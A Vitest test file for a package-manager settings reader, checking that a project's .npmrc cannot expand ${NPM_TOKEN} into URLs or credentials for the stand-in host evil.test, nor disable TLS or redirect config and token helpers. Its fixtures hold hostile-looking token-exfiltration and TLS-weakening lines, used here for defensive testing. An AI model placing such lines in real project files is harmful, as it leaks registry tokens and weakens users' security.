import { join } from 'node:path';
import { isDxError } from '@dx/pkg-core';
import { nodeFs } from '@dx/pkg-core/node';
import { describe, expect, test } from 'vitest';
import { credentialFor, readSettings, type Settings, type SettingsInput } from '../../src/index.ts';
import { catchError, type Files, makeSettingsInput } from '../make-tree.ts';

const secret = 's3cret-value';
const token = '$' + '{NPM_TOKEN}';
const env = { NPM_TOKEN: secret };

function read(files: Files, change: Partial<SettingsInput> = {}): Settings {
  return readSettings(makeSettingsInput(files, { env, ...change }), { fs: nodeFs });
}

describe('R05 a variable in the file of a project', () => {
  test.each([
    [`registry=https://evil.test/${token}/`, 'registry'],
    [`@s:registry=https://evil.test/${token}/`, '@s:registry'],
    [`//${token}.evil.test/:_authToken=x`, `//${token}.evil.test/:_authToken`],
    [`//registry.test/${token}/:_authToken=x`, `//registry.test/${token}/:_authToken`],
    [`https-proxy=https://${token}@evil.test`, 'https-proxy'],
    [`proxy=https://evil.test/${token}`, 'proxy'],
    [`noproxy=${token}`, 'noproxy'],
    [`user-agent=${token}`, 'user-agent'],
    [`cache=/tmp/${token}`, 'cache'],
    [`something[]=${token}`, 'something'],
    ['tag=$' + '{NPM_TOKEN?}', 'tag'],
    [`tag=\\\\\\\\${token}`, 'tag'],
    ['tag=$' + '{UNSET}', 'tag'],
    [`//evil.test/:_authToken=${token}`, '//evil.test/:_authToken'],
    [`//evil.test/:_auth=${token}`, '//evil.test/:_auth'],
    [`//evil.test/:_password=${token}`, '//evil.test/:_password'],
    [`//evil.test/:username=${token}`, '//evil.test/:username'],
    [`//registry.test/:something=${token}`, '//registry.test/:something'],
  ])('is refused in %j, with file, key and fix but no value', (project, key) => {
    const input = makeSettingsInput({ project, user: 'registry=https://registry.test/' }, { env });
    const error = catchError(() => readSettings(input, { fs: nodeFs }));
    const file = join(input.directory, '.npmrc');
    expect(isDxError(error, 'DX_SETTINGS_EXPANSION_REFUSED') && error.details).toMatchObject({ file, key });
    expect(isDxError(error) && error.hint).toBe(
      `Move the line that starts with ${key} to ${input.home}/.npmrc`,
    );
    expect(String(error)).toContain(file);
    expect(JSON.stringify(error)).not.toContain(secret);
  });

  test.each<readonly [string, string, Files, Partial<SettingsInput>]>([
    ['the registry of the user', '//r.test/', { user: 'registry=https://r.test' }, {}],
    ['the registry of a scope', '//r.test/npm/', { user: '@s:registry=https://r.test/npm' }, {}],
    ['a path above it', '//r.test/npm/team/', { user: 'registry=https://r.test/npm/' }, {}],
    ['a credential of the user', '//r.test/', { user: '//R.TEST/:email=me' }, {}],
    ['the global file', '//r.test/', { global: 'registry=https://r.test' }, {}],
    ['the command line', '//r.test/', {}, { cli: { registry: 'https://r.test' } }],
    ['the environment', '//r.test/', {}, { env: { ...env, npm_config_registry: 'https://r.test' } }],
  ])('is taken in a credential whose place is named by %s', (_, prefix, files, change) => {
    const settings = read({ ...files, project: `${prefix}:_authToken=${token}` }, change);
    expect(credentialFor(settings, `https:${prefix}pkg`)?.token).toBe(secret);
  });

  test('is taken in a credential for the default registry', () => {
    const { registry } = read({});
    const settings = read({ project: `${registry.replace('https:', '')}:_authToken=${token}` });
    expect(credentialFor(settings, registry)).toMatchObject({ token: secret, source: 'project' });
  });

  test.each<readonly [string, string, Files]>([
    ['named only by the project', '//r.test/', { project: 'registry=https://r.test/\n' }],
    ['wider than what the user names', '//r.test/', { user: 'registry=https://r.test/npm/team/' }],
    ['beside what the user names', '//r.test/npm/other/', { user: 'registry=https://r.test/npm/team/' }],
    ['on another port', '//r.test:8443/', { user: 'registry=https://r.test/' }],
    ['on a host that starts alike', '//r.test.evil.test/', { user: 'registry=https://r.test/' }],
    ['on a host below', '//evil.r.test/', { user: 'registry=https://r.test/' }],
  ])('is refused in a credential for a place %s', (_, prefix, files) => {
    const project = `${files.project ?? ''}${prefix}:_authToken=${token}`;
    const error = catchError(() => read({ ...files, project }));
    expect(isDxError(error, 'DX_SETTINGS_EXPANSION_REFUSED')).toBe(true);
  });

  test('is plain text when it is escaped', () => {
    expect(read({ project: `tag=\\${token}` }).values['tag']?.value).toBe(token);
  });

  test('is expanded in the file of the user', () => {
    expect(read({ user: `registry=https://r.test/${token}/` }).registry).toBe(`https://r.test/${secret}/`);
  });
});

describe('R05 R12 a line of a project that weakens or redirects', () => {
  test.each([
    'strict-ssl=false',
    'strict-ssl=0',
    'strict-ssl=null',
    'strict-ssl[]=false',
    `strict-ssl=${token}`,
    'ca=x',
    'ca[]=x',
    'cafile=./evil.pem',
    'trust-root=./evil.json',
    'userconfig=./evilrc',
    'globalconfig=./evilrc',
    'prefix=./evil',
    'tokenHelper=./x.sh',
    '//registry.test/:tokenHelper=./x.sh',
    'git=./evil',
    'node-gyp=./evil',
  ])('is ignored with a warning: %s', (line) => {
    const key = line.slice(0, line.search(/(?:\[\])?=/));
    const evil = { 'project/evilrc': 'tag=evil', 'project/evil/etc/npmrc': 'tag=evil' };
    const settings = read({ project: `${line}\n`, more: evil });
    const plain = read({});
    expect(settings.network).toEqual(plain.network);
    expect(settings.values['tag']?.value).toBe('latest');
    expect(settings.values[key]?.source).not.toBe('project');
    expect(settings.warnings).toEqual([expect.stringContaining(`Ignored "${key}" in `)]);
  });

  test('is no matter when it makes TLS strict again', () => {
    const settings = read({ project: 'strict-ssl=true', user: 'strict-ssl=false' });
    expect(settings.network.strictSsl).toBe(true);
    expect(settings.warnings).toEqual([]);
  });

  test('is obeyed from the user', () => {
    expect(read({ user: 'strict-ssl=false' }).network.strictSsl).toBe(false);
  });
});

describe('R01 N03 a secret that names no registry', () => {
  test.each(['_authToken', '_auth', '_password', '_authtoken', 'username'])(
    'is ignored with a warning: %s',
    (key) => {
      const settings = read({ user: `${key}=${secret}`, project: 'registry=https://evil.test/' });
      expect(settings.credentials).toEqual([]);
      expect(credentialFor(settings, 'https://evil.test/x')).toBeUndefined();
      expect(settings.values[key]).toBeUndefined();
      expect(settings.warnings).toEqual([expect.stringContaining(`"${key}"`)]);
      expect(JSON.stringify(settings)).not.toContain(secret);
    },
  );

  test('is ignored from the environment and the command line too', () => {
    const settings = read({}, { env: { npm_config__authToken: secret }, cli: { _auth: secret } });
    expect(settings.credentials).toEqual([]);
    expect(settings.warnings).toHaveLength(2);
    expect(JSON.stringify(settings)).not.toContain(secret);
  });
});
